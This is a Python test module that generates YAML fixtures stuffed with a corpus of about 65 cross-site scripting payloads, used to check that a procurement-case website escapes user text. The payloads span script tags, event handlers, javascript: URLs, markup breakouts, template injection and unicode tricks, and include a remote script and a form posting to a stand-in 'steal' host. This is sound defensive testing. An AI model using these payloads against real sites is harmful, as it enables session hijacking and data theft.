"""The XSS payload corpus and the fixture built from it (tests/fixtures/xss).

Every payload that would run sets `window.__xss` (and opens a dialog), so a browser test can
check both. The fixture has one case per payload with the payload in every free-text field the
schema lets through (titles, summaries, Markdown descriptions, place, legal basis, buyer and
participant names, value covers, lessons, source title and publisher, review note, OCDS id when
it has no spaces) and one collection whose two introductions hold all payloads between them. Payloads that
validation refuses somewhere are left out there (REFUSED, REFUSED_IN_MARKDOWN); render.py is
tested against them directly in tests/test_render_xss.py.

Regenerate the checked-in fixture after changing the list: `.venv/bin/python tests/xss_payloads.py`
(a test fails while it is out of date).
"""

from __future__ import annotations

import re
import sys
from pathlib import Path

import yaml

FIXTURE = Path(__file__).parent / "fixtures" / "xss"
RUN = "window.__xss=1;alert(1)"

# (slug, payload). Slugs become case ids: xss-<nn>-<slug>.
PAYLOADS: list[tuple[str, str]] = [
    # plain tags and event handlers
    ("script", f"<script>{RUN}</script>"),
    ("script-src", "<SCRIPT SRC=//example.invalid/xss.js></SCRIPT>"),
    ("img-onerror", f'<img src=x onerror="{RUN}">'),
    ("svg-onload", f"<svg onload={RUN}>"),
    ("svg-script", f"<svg><script>{RUN}</script></svg>"),
    ("svg-xlink", f'<svg><a xlink:href="javascript:{RUN}"><text y="9">x</text></a></svg>'),
    ("iframe-js", f"<iframe src=javascript:{RUN}></iframe>"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.__xss=1;alert(1)</script>"></iframe>'),
    ("details-ontoggle", f"<details open ontoggle={RUN}><summary>x</summary></details>"),
    ("input-autofocus", f"<input autofocus onfocus={RUN}>"),
    ("body-onload", f"<body onload={RUN}>"),
    ("custom-tag", f"<xss id=x tabindex=1 onfocus={RUN} onpointerover={RUN}>x</xss>"),
    ("object-data", "<object data=javascript:window.__xss=1></object>"),
    ("embed-data", '<embed src="data:text/html,<script>parent.__xss=1</script>">'),
    ("img-eval", "<img src=x:alert(alt) onerror=eval(src);window.__xss=1 alt=0>"),
    # links and URL schemes
    ("a-javascript", f'<a href="javascript:{RUN}">klik</a>'),
    ("a-tab-entity", f'<a href="jav&#x09;ascript:{RUN}">tab</a>'),
    (
        "a-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">e</a>',
    ),
    ("a-data", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">vb</a>'),
    ("bare-javascript", f"javascript:{RUN}"),
    # CSS
    ("style-url", '<div style="background:url(javascript:window.__xss=1)">css</div>'),
    ("style-expression", '<div style="width:expression(window.__xss=1)">expr</div>'),
    ("style-block", "<style>@import 'https://example.invalid/x.css';body{display:none}</style>"),
    ("close-style", f"</style><script>{RUN}</script>"),
    # breaking out of the surrounding markup
    ("close-textarea", f"</textarea><script>{RUN}</script>"),
    ("close-title", f"</title><script>{RUN}</script>"),
    ("broken-tag", f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    ("attr-double", f'"><script>{RUN}</script>'),
    ("attr-single", f"'><img src=x onerror={RUN}>"),
    ("attr-unquoted", f"x onmouseover={RUN} y"),
    ("js-string", "'-alert(1)-'"),
    ("js-string-2", f"\\\"';{RUN}//"),
    ("close-script", f"</script><script>{RUN}</script>"),
    ("html-comment", f'<!--<img src="--><img src=x onerror={RUN}//">'),
    ("cdata", f"]]><script>{RUN}</script><![CDATA["),
    ("noscript-mxss", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'),
    ("math-mxss", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>"),
    # page-level tags
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">'),
    (
        "form-action",
        '<form action="https://example.invalid/steal"><button>Verstuur</button></form>',
    ),
    ("base-href", '<base href="https://example.invalid/">'),
    ("link-import", "<link rel=stylesheet href=https://example.invalid/x.css>"),
    # template injection (Jinja and others)
    ("jinja-expr", "{{7*7}} {{ cb.__class__ }}"),
    ("jinja-raw", "{% raw %}{{ config }}{% endraw %} {% if 1 %}x{% endif %}"),
    ("dollar-expr", "${7*7} #{7*7} <%= 7*7 %>"),
    # entities and encodings
    ("entities-named", "&lt;script&gt;window.__xss=1&lt;/script&gt; &amp;amp;"),
    ("entities-numeric", f"&#60;img src=x onerror={RUN}&#62;"),
    ("percent-encoded", "%3Cscript%3Ewindow.__xss=1%3C/script%3E"),
    # unicode tricks
    ("fullwidth", "＜script＞window.__xss=1＜/script＞"),
    ("long-s", f"<ſcript>{RUN}</ſcript>"),
    ("homoglyph", f"<\u0455cript>{RUN}</\u0455cript>"),  # Cyrillic dze for the s
    ("combining", f"<script\u0338>{RUN}</script\u0338>"),
    ("line-separator", f"\u2028<script>{RUN}</script>\u2029'-alert(1)-'"),
    ("zero-width", f"java\u200bscript:{RUN} <scr\u200bipt>{RUN}</scr\u200bipt>"),
    # Markdown (rendered in descriptions and introductions; plain text elsewhere)
    ("md-link-js", f"[klik](javascript:{RUN})"),
    ("md-link-case", "[klik](JaVaScRiPt:window.__xss=1)"),
    ("md-link-entity", "[klik](jav&#x09;ascript:window.__xss=1)"),
    ("md-link-data", "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-autolink-js", f"<javascript:{RUN}>"),
    ("md-image-js", f"![x](javascript:{RUN})"),
    ("md-reference", "[klik][evil]\n\n[evil]: javascript:window.__xss=1"),
    ("md-link-title", '[klik](https://bron.test "\\" onmouseover=\\"window.__xss=1")'),
    ("md-link-quote", '[klik](https://bron.test/"onmouseover="window.__xss=1)'),
    ("md-code", f"`<script>{RUN}</script>`"),
    ("md-table", f"| a |\n|---|\n| <img src=x onerror={RUN}> |"),
]

# A source URL the schema accepts that tries to break out of the href attribute (the schema
# wants double quotes and <> percent-encoded, so this is the most it lets through).
HOSTILE_URL = "https://bron.test/x?q='onmouseover='window.__xss=1'&a=&quot;&#34;%22%3E%3Cscript%3E"

# Refused by validation, so never on a page: bidirectional overrides ("Trojan Source") and a
# source URL with a raw quote and tags (tests/fixtures/invalid covers these refusals).
REFUSED = {
    "rtl-override": f"\u202e<script>{RUN}</script>",
    "url-breakout": 'https://bron.test/x?q="><img/src=x/onerror=window.__xss=1>',
}
# Validation refuses these links in Markdown fields (description, introduction); there they are
# left out of the fixture, and render.py is tested against them directly. Plain-text fields
# still carry them.
REFUSED_IN_MARKDOWN = {
    "md-link-js", "md-link-case", "md-link-data", "md-autolink-js", "md-image-js", "md-reference",
}  # fmt: skip
COLLECTION = "xss-collectie"
HEADER = "# XSS test fixture, generated by tests/xss_payloads.py: not a real case.\n"


def case_id(n: int, slug: str) -> str:
    return f"xss-{n:02d}-{slug}"


def single_line(payload: str) -> str:
    """Payload for one-line text fields (the Markdown table and reference are multi-line)."""
    return payload.replace("\n", " ")


def markdown(slug: str, payload: str) -> str:
    return "(refused by validation here)" if slug in REFUSED_IN_MARKDOWN else payload


def case(n: int, slug: str, payload: str) -> dict:
    p = single_line(payload)
    md = markdown(slug, payload)
    cite = {"source": "xss", "quote": p[:300]}  # a quote is shown on the page too
    doc: dict = {
        "id": case_id(n, slug),
        "title": p,
        "title_en": p,
        "summary": f"{p} Samenvatting met een aanvalstekst.",
        "summary_en": f"{p} Summary with an attack text.",
        "description": f"Beschrijving. [^xss]\n\n{md} [^xss]\n",
        "description_en": f"Description. [^xss]\n\n{md} [^xss]\n",
        "language": "nl",
        "country": "NL",
        "place": p,
        "buyers": [{"name": p, "buyer_type": "nl-municipality", **cite}],
        "participants": [
            {"name": f"{p} (leverancier)", "organisation_type": "sme", "role": "supplier", **cite}
        ],
        "instruments": ["pilot"],
        "challenges": ["energy-transition"],
        "procedure": "open",
        "legal_basis": p,
        "status": "completed",
        "outcome": "deployed",
        "year_start": 2020,
        "year_end": 2021,
        "value": {"amount_eur": 1000 + n, "kind": "budget", "covers": p, "covers_en": p},
        "cite": {f: cite for f in ("procedure", "status", "outcome", "year_start", "year_end")}
        | {"value": cite},
        "events": [{"date": "2020-05", "kind": "started", "text": p, "text_en": p, **cite}],
        "lessons": [{"text": p, "text_en": p, "perspective": "buyer", **cite}],
        "sources": [
            {
                "key": "xss",
                "url": f"https://bron.test/xss/{n}",
                "title": p,
                "publisher": p,
                "date": "2024",
            },
            {"key": "hostile", "url": HOSTILE_URL},
        ],
        "confidence": "medium",
        "review_note": p,
        "review_note_en": p,
        "last_reviewed": "2026-01-15",
    }
    if not re.search(r"\s", p):
        doc["identifiers"] = {"ocid": f"ocds-xss000-{p}"}
        # identifiers are cited facts: the ocid occurs in the quote (shown on the page too)
        doc["cite"]["identifiers"] = {"source": "xss", "quote": f"ocds-xss000-{p}"}
    return doc


def collection() -> dict:
    texts = [payload for slug, payload in PAYLOADS if slug not in REFUSED_IN_MARKDOWN]
    half = len(texts) // 2
    return {
        "id": COLLECTION,
        "title": f'"><script>{RUN}</script> collectie',
        "title_en": f"<img src=x onerror={RUN}> collection",
        # Half the corpus per language: the schema allows 5000 characters per introduction.
        "introduction": "\n\n".join(texts[:half]) + "\n",
        "introduction_en": "\n\n".join(texts[half:]) + "\n",
        "cases": [case_id(n, slug) for n, (slug, _) in enumerate(PAYLOADS, 1)],
    }


class _Dumper(yaml.SafeDumper):
    def ignore_aliases(self, data) -> bool:
        return True  # case files may not use anchors: write shared citations out


def _text(dumper: yaml.SafeDumper, value: str) -> yaml.ScalarNode:
    style = "|" if "\n" in value else None  # Markdown stays readable as a block
    return dumper.represent_scalar("tag:yaml.org,2002:str", value, style=style)


_Dumper.add_representer(str, _text)


def dump(doc: dict) -> str:
    text = yaml.dump(doc, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=10_000)
    return HEADER + text


def files() -> dict[str, str]:
    """Relative path -> file text of the whole fixture."""
    out = {
        f"cases/{case_id(n, slug)}.yml": dump(case(n, slug, payload))
        for n, (slug, payload) in enumerate(PAYLOADS, 1)
    }
    out[f"collections/{COLLECTION}.yml"] = dump(collection())
    return out


def write(folder: Path = FIXTURE) -> None:
    for sub in ("cases", "collections"):
        (folder / sub).mkdir(parents=True, exist_ok=True)
        for old in (folder / sub).glob("*.yml"):
            old.unlink()
    for rel, text in files().items():
        (folder / rel).write_text(text, encoding="utf-8")


if __name__ == "__main__":
    write(Path(sys.argv[1]) if len(sys.argv) > 1 else FIXTURE)
    print(f"{len(PAYLOADS)} payloads written to {FIXTURE}")
